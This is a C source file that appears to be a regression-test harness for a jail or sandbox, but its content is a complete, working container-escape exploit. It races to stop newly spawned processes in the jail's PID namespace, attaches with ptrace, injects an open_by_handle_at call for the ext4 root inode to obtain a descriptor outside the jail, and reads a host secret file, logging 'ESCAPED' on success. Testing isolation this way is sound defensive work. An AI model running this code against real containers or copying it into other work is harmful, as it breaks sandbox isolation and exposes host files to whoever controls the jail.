/* ptrace_attack OUT SECONDS SECRET: the attack of issue 12, run as jail root.

   For SECONDS it waits for the next process to appear in the jail's PID
   namespace (the PID after /proc/sys/kernel/ns_last_pid), stops it with
   SIGSTOP the moment it exists, attaches with PTRACE_SEIZE and injects
   open_by_handle_at(AT_FDCWD, {ext4 inode 2}) into it: a process that holds
   CAP_DAC_READ_SEARCH gets a descriptor of the file system's root, outside
   the jail, and SECRET (a path relative to that root) is read through
   /proc/PID/fd/N. Every step is appended to OUT as one line:

     stopped pid=P name=N capeff=HEX
     seize pid=P errno=E            (the attach was refused)
     inject pid=P result=R          (R: the fd, or -errno)
     ESCAPED pid=P secret=TEXT      (the jail reached the host)

   Static: it runs inside busybox jails. x86_64 only. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE* out;

static long last_pid(void) {
  char buf[32] = {0};
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
  if (fd < 0) return -1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  return n > 0 ? strtol(buf, NULL, 10) : -1;
}

static void status_of(pid_t pid, char* name, size_t name_len, char* capeff, size_t cap_len) {
  char path[64], buf[4096];
  snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
  snprintf(name, name_len, "?");
  snprintf(capeff, cap_len, "?");
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return;
  buf[n] = 0;
  char* p = strstr(buf, "Name:\t");
  if (p) sscanf(p + 6, "%63s", name);
  p = strstr(buf, "CapEff:\t");
  if (p) sscanf(p + 8, "%31s", capeff);
}

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Runs one system call in the stopped tracee at its current instruction. */
static long inject(pid_t pid, long nr, long a, long b, long c) {
  struct user_regs_struct saved, regs;
  if (ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0) return -errno;
  regs = saved;
  errno = 0;
  long text = ptrace(PTRACE_PEEKTEXT, pid, (void*)saved.rip, 0);
  if (errno) return -errno;
  long patched = (text & ~0xffffL) | 0x050f; /* syscall */
  if (ptrace(PTRACE_POKETEXT, pid, (void*)saved.rip, (void*)patched) != 0) return -errno;
  regs.rax = (unsigned long)nr;
  regs.orig_rax = (unsigned long)-1;
  regs.rdi = (unsigned long)a;
  regs.rsi = (unsigned long)b;
  regs.rdx = (unsigned long)c;
  long result = -EIO;
  if (ptrace(PTRACE_SETREGS, pid, 0, &regs) == 0) {
    /* Stops that were queued (the SIGSTOP's, the interrupt's) may come
       first: step again, without delivering them, until the instruction
       has run (rip past the two bytes of `syscall`). */
    for (int i = 0; i < 8; ++i) {
      if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) break;
      int st = 0;
      if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st)) break;
      if (ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0) break;
      if (regs.rip == saved.rip + 2) {
        result = (long)regs.rax;
        break;
      }
    }
  }
  ptrace(PTRACE_POKETEXT, pid, (void*)saved.rip, (void*)text);
  ptrace(PTRACE_SETREGS, pid, 0, &saved);
  return result;
}

static void attack(pid_t pid, const char* secret) {
  char name[64], capeff[32];
  status_of(pid, name, sizeof name, capeff, sizeof capeff);
  fprintf(out, "stopped pid=%d name=%s capeff=%s\n", (int)pid, name, capeff);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
    fprintf(out, "seize pid=%d errno=%d\n", (int)pid, errno);
    kill(pid, SIGCONT);
    return;
  }
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  int st = 0;
  waitpid(pid, &st, __WALL);
  /* A file handle of the root directory of an ext4 file system: inode 2,
     generation 0 (FILEID_INO32_GEN), written below the tracee's stack. */
  struct user_regs_struct regs;
  long fd = -1;
  if (ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
    unsigned long at = (regs.rsp - 4096) & ~15UL;
    uint32_t handle[4] = {8, 1, 2, 0};
    long words[2];
    memcpy(words, handle, sizeof words);
    ptrace(PTRACE_POKEDATA, pid, (void*)at, (void*)words[0]);
    ptrace(PTRACE_POKEDATA, pid, (void*)(at + 8), (void*)words[1]);
    fd = inject(pid, SYS_open_by_handle_at, AT_FDCWD, (long)at, O_RDONLY | O_DIRECTORY);
  }
  fprintf(out, "inject pid=%d result=%ld\n", (int)pid, fd);
  if (fd >= 0) {
    char path[4096], text[256] = {0};
    snprintf(path, sizeof path, "/proc/%d/fd/%ld/%s", (int)pid, fd, secret);
    int s = open(path, O_RDONLY);
    if (s >= 0) {
      ssize_t n = read(s, text, sizeof text - 1);
      close(s);
      if (n > 0) {
        text[strcspn(text, "\n")] = 0;
        fprintf(out, "ESCAPED pid=%d secret=%s\n", (int)pid, text);
      }
    }
    inject(pid, SYS_close, fd, 0, 0);
  }
  ptrace(PTRACE_DETACH, pid, 0, 0);
  kill(pid, SIGCONT);
}

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: ptrace_attack OUT SECONDS SECRET\n");
    return 2;
  }
  out = fopen(argv[1], "a");
  if (!out) return 1;
  setvbuf(out, NULL, _IOLBF, 0);
  const double until = now() + atof(argv[2]);
  fprintf(out, "ready pid=%d\n", (int)getpid());
  while (now() < until) {
    long target = last_pid() + 1;
    if (target <= 1) return 1;
    /* Spin on the predicted PID: SIGSTOP lands the moment it exists. */
    for (long i = 0; now() < until; ++i) {
      if (kill((pid_t)target, SIGSTOP) == 0) {
        attack((pid_t)target, argv[3]);
        break;
      }
      if ((i & 1023) == 0) {
        /* It may have come (and gone) since the last try: one more, then aim
           at the next PID. */
        if (last_pid() >= target) {
          if (kill((pid_t)target, SIGSTOP) == 0) attack((pid_t)target, argv[3]);
          break;
        }
      }
    }
  }
  fprintf(out, "done\n");
  return 0;
}
